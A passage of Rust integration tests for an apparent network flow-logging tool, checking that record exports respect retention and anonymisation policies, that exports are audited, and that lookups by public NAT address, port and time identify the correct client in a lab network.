/// not the daemon's job has run: the real binary on a real SQLite file no daemon touched.
#[test]
fn export_never_returns_records_past_the_retention() {
    if !privileged("export_never_returns_records_past_the_retention") {
        return;
    }
    let sandbox = AuditSandbox::with_syslog("retention");
    let store = sandbox.work_dir().join("flows.sqlite");
    // 500 days old (past 14 months), 100 days old, 10 days old.
    FlowStore::open(&store)
        .unwrap()
        .insert(&[
            aged_record("192.0.2.10", 1, 500),
            aged_record("192.0.2.10", 2, 100),
            aged_record("192.0.2.10", 3, 10),
        ])
        .unwrap();
    let mut case = 0;
    let mut export = |extra: &[&str]| -> Vec<ExportRow> {
        case += 1;
        let out = sandbox.work_dir().join(format!("case-{case}.jsonl"));
        let output = export_command(&sandbox, &store, &format!("HR-RET-{case}"), &out)
            .args(extra)
            .output()
            .unwrap();
        succeeded(&output);
        std::fs::read_to_string(&out)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let ports = |rows: &[ExportRow]| -> Vec<u16> { rows.iter().map(|r| r.client_port).collect() };

    // No daemon has run the job here: the built-in 14 months hold all the same.
    let rows = export(&[]);
    assert_eq!(ports(&rows), [2, 3], "{rows:#?}");
    assert_eq!(
        FlowStore::open(&store).unwrap().count().unwrap(),
        3,
        "the export removes nothing itself"
    );

    // A daemon whose policy anonymises after 30 days recorded its retention (its job ran
    // 200 days ago, anonymising the oldest then): the 100-day-old record is shown without
    // its client, and not at all to a search for that client.
    let anonymise_30_days = Retention {
        keep: jiff::Span::new().days(30),
        after: AfterRetention::Anonymise,
        ..Retention::default()
    };
    let long_ago = jiff::Timestamp::now() - jiff::SignedDuration::from_hours(24 * 200);
    Store::open(store.to_str().unwrap())
        .unwrap()
        .apply_retention(&anonymise_30_days, long_ago)
        .unwrap();
    let rows = export(&[]);
    assert_eq!(ports(&rows), [0, 0, 3], "{rows:#?}");
    assert!(
        rows[..2]
            .iter()
            .all(|r| r.anonymised && r.client.is_empty() && r.client_mac.is_empty())
    );
    assert_eq!(rows[2].client, "192.0.2.10");
    let rows = export(&["--client", "192.0.2.10"]);
    assert_eq!(ports(&rows), [3], "{rows:#?}");

    // The policy then changes to delete after 30 days (recorded, the job not yet run on
    // the 100-day-old record): it is not exported.
    let delete_30_days = Retention {
        after: AfterRetention::Delete,
        ..anonymise_30_days
    };
    Store::open(store.to_str().unwrap())
        .unwrap()
        .apply_retention(&delete_30_days, long_ago)
        .unwrap();
    let rows = export(&[]);
    assert_eq!(ports(&rows), [3], "{rows:#?}");
    assert_eq!(sandbox.log_lines().len(), 4, "every export audited");
}

/// Waits (bounded) until the store at `store` holds `count` HTTP flows.
fn wait_for_records(store: &Path, count: usize) {
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let rows = FlowStore::open(store)
            .and_then(|s| s.query(&Filter::default()))
            .unwrap_or_default();
        if rows
            .iter()
            .filter(|r| r.flow.server.port() == HTTP_PORT)
            .count()
            >= count
        {
            return;
        }
        assert!(
            Instant::now() < deadline,
            "{count} records within 30 s: {rows:#?}"
        );
        std::thread::sleep(Duration::from_millis(250));
    }
}

/// One download per `(client, local port, bytes)`, all at once.
fn overlapping_downloads(lab: &Lab, downloads: &[(usize, u16, u64)]) {
    let children: Vec<_> = downloads
        .iter()
        .map(|(client, port, len)| {
            Lab::command(&lab.clients[*client], "curl")
                .args(["--silent", "--show-error", "--max-time", "20", "--ipv4"])
                .args(["--output", "/dev/null"])
                .args(["--local-port", &port.to_string()])
                // A request one byte longer per client: the server's capture tells them apart.
                .args(["--header", &format!("X-Who: {}", "a".repeat(client + 1))])
                .arg(format!("http://{SERVER_NAME}/bytes/{len}"))
                .spawn()
                .expect("curl starts")
        })
        .collect();
    for child in children {
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "curl: {output:?}");
    }
}

/// The public ports the server saw the requests come from, and an instant within each
/// flow (its request's arrival, plus 20 ms: the records are stamped at the timer tick's
/// resolution, and a download of megabytes lasts longer), in the order of the `X-Who`
/// header's length (the clients' order in [`overlapping_downloads`]): the server's
/// capture is the independent witness of which client held which port when. Every
/// request came from the gateway's WAN address.
fn request_ports(at_server: &[capture::CapturedPacket]) -> Vec<(u16, jiff::Timestamp)> {
    let mut requests: Vec<&capture::CapturedPacket> = at_server
        .iter()
        .filter(|p| p.dst == SocketAddr::new(SERVICE_V4.into(), HTTP_PORT))
        .collect();
    assert!(
        requests
            .iter()
            .all(|p| p.src.ip() == IpAddr::from(GATEWAY_WAN_V4)),
        "the server saw requests only from the gateway: {requests:?}"
    );
    requests.sort_by_key(|p| p.tcp_payload_len);
    eprintln!(
        "requests at the server: {:?}",
        requests
            .iter()
            .map(|p| (p.src, p.tcp_payload_len))
            .collect::<Vec<_>>()
    );
    requests
        .iter()
        .map(|p| {
            // The request's own instant: inside its flow's record (stamped no later than its
            // first packet, and its download runs after the request), however short the
            // flow (a 2 MB download here can end 20 ms after its request).
            let at = jiff::Timestamp::from_duration(p.at.try_into().unwrap()).unwrap();
            (p.src.port(), at)
        })
        .collect()
}

/// "Who was 198.51.100.1:P at T?" behind a masquerading gateway with three clients, the
/// hard cases made on purpose: all three connect from the same source port at once (NAT
/// gives two of them other public ports), then, once the translations have expired
/// (conntrack flushed), another client gets the very same public port. An export by
/// public address, port and instant finds exactly the client that held it then (the
/// server's capture says which flow was which, by its size); malformed input is refused
/// with the reason, writing and auditing nothing.
#[test]
fn an_export_by_public_address_port_and_time_names_exactly_the_client_behind_it() {
    if !privileged("an_export_by_public_address_port_and_time_names_exactly_the_client_behind_it") {
        return;
    }
    let (lab, _http) = http_lab_with(&LabSpec {
        clients: 4,
        server_names: vec![SERVER_NAME.into()],
        nat: true,
        ..LabSpec::default()
    });
    let daemon = daemon_with_policy(&lab, &council_policy_with_short_idle(""), None);
    // Only the requests (the bulk of a download would overflow tcpdump's buffer here).
    const REQUESTS: &str = "tcp dst port 80 and tcp[tcpflags] & tcp-push != 0";
    let at_server = Capture::start_on(&lab.server, "eth0", REQUESTS).unwrap();
    const PORT: u16 = 40031;
    let sizes = [2_000_000u64, 2_400_000, 2_800_000];
    overlapping_downloads(
        &lab,
        &[
            (0, PORT, sizes[0]),
            (1, PORT, sizes[1]),
            (2, PORT, sizes[2]),
        ],
    );
    let store = lab.store_path();
    wait_for_records(&store, 3);
    // The translations expire (as conntrack's timeouts would make them): the port is free.
    let flushed = Lab::command(&lab.gateway, "conntrack")
        .arg("-F")
        .output()
        .unwrap();
    assert!(flushed.status.success(), "conntrack -F: {flushed:?}");
    std::thread::sleep(Duration::from_millis(200));
    let first_ports = request_ports(&at_server.finish().unwrap());
    assert_eq!(first_ports.len(), 3, "three requests: {first_ports:?}");
    let holder = (0..3)
        .find(|i| first_ports[*i].0 == PORT)
        .expect("one client kept its own port as the public one");
    // A client that has not used the port (one that had would reuse its own 5-tuple: one
    // flow, see docs/records.md).
    let later = 3;
    assert_ne!(holder, later);
    let later_size = 3_200_000u64;
    let at_server = Capture::start_on(&lab.server, "eth0", REQUESTS).unwrap();
    overlapping_downloads(&lab, &[(later, PORT, later_size)]);
    std::thread::sleep(Duration::from_millis(500));
    let second_ports = request_ports(&at_server.finish().unwrap());
    let second = second_ports[0].1;
    assert_eq!(
        second_ports.iter().map(|p| p.0).collect::<Vec<_>>(),
        [PORT],
        "port reused"
    );

    wait_for_records(&store, 4);
    daemon.stop().unwrap();

    let sandbox = AuditSandbox::with_syslog("nat-exports");
    let data = lab.data_dir();
    let mut case = 0;
    let mut who_was = |public: String, at: jiff::Timestamp| -> Vec<ExportRow> {
        case += 1;
        let out = data.join(format!("who-{case}.jsonl"));
        let output = sandbox
            .classifier()
            .args(["export", "--case", &format!("ABUSE-{case}")])
            .args(["--requested-by", "Abuse desk (ISP complaint)"])
            .args(["--public", &public, "--at", &at.to_string()])
            .args(["--format", "jsonl", "--store"])
            .arg(&store)
            .arg("--out")
            .arg(&out)
            .output()
            .unwrap();
        succeeded(&output);
        std::fs::read_to_string(&out)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    };
    let everything: Vec<String> = FlowStore::open(&store)
        .unwrap()
        .query(&Filter::default())
        .unwrap()
        .iter()
        .map(|s| {
            format!(
                "{} {:?} {}..{} up {} down {} {:?}",
                s.flow.client,
                s.flow.public_source,
                s.flow.first_seen,
                s.flow.last_seen,
                s.flow.upload.bytes,
                s.flow.download.bytes,
                s.flow.ended
            )
        })
        .collect();
    let expect_one = |rows: &[ExportRow], client: usize, what: &str| {
        assert_eq!(
            rows.len(),
            1,
            "{what}: exactly one flow: {rows:#?} (the store: {everything:#?})"
        );
        assert_eq!(
            rows[0].client,
            lab.clients[client].ipv4.to_string(),
            "{what}"
        );
        assert_eq!(rows[0].client_port, PORT, "{what}");
    };
    for (client, (port, first)) in first_ports.iter().copied().enumerate() {
        let rows = who_was(format!("{GATEWAY_WAN_V4}:{port}"), first);
        expect_one(
            &rows,
            client,
            &format!("{GATEWAY_WAN_V4}:{port} in the first round"),
        );
        assert_eq!(rows[0].public_port, Some(port));
    }
    let rows = who_was(format!("{GATEWAY_WAN_V4}:{PORT}"), second);
    expect_one(&rows, later, "the reused port, later");
    // The same public source at an instant when nobody held it: nothing.
    let before = first_ports[0]
        .1
        .checked_sub(jiff::SignedDuration::from_secs(3600))
        .unwrap();
    assert!(who_was(format!("{GATEWAY_WAN_V4}:{PORT}"), before).is_empty());

    // Malformed input: refused with the reason; no file, no audit entry.
    let entries = sandbox.log_lines().len();
    assert_eq!(entries, 5, "one audit entry per export");
    let log = std::fs::read_to_string(sandbox.log()).unwrap();
    assert!(
        log.contains(&format!("\"public_addr\":\"{GATEWAY_WAN_V4}\""))
            && log.contains(&format!("\"public_port\":{PORT}"))
            && log.contains("\"at\":"),
        "the audit entry names the public source and the instant: {log}"
    );
    for (public, at, says) in [
        ("198.51.100.1:0", "2026-12-05T14:02:00Z", "port 0"),
        (
            "198.51.100.1:70000",
            "2026-12-05T14:02:00Z",
            "not a public address",
        ),
        (
            "gateway:51234",
            "2026-12-05T14:02:00Z",
            "not a public address",
        ),
        ("0.0.0.0:51234", "2026-12-05T14:02:00Z", "unspecified"),
        ("198.51.100.1:51234", "14:02 yesterday", "not a time"),
    ] {
        let out = data.join("refused.jsonl");
        let output = sandbox
            .classifier()
            .args([
                "export",
                "--case",
                "ABUSE-X",
                "--requested-by",
                "Abuse desk",
            ])
            .args([
                "--public", public, "--at", at, "--format", "jsonl", "--store",
            ])
            .arg(&store)
            .arg("--out")
            .arg(&out)
            .output()
            .unwrap();
        let message = failed(&output);
        assert!(message.contains(says), "{public} at {at}: {message}");
        assert!(!out.exists(), "{public}: no file");
    }
    assert_eq!(
        sandbox.log_lines().len(),
        entries,
        "refusals are not audited"
    );
    let verified = succeeded(&sandbox.verify(&["--no-journal"]));
    assert!(verified.contains("5 entries, chain intact"), "{verified}");
}
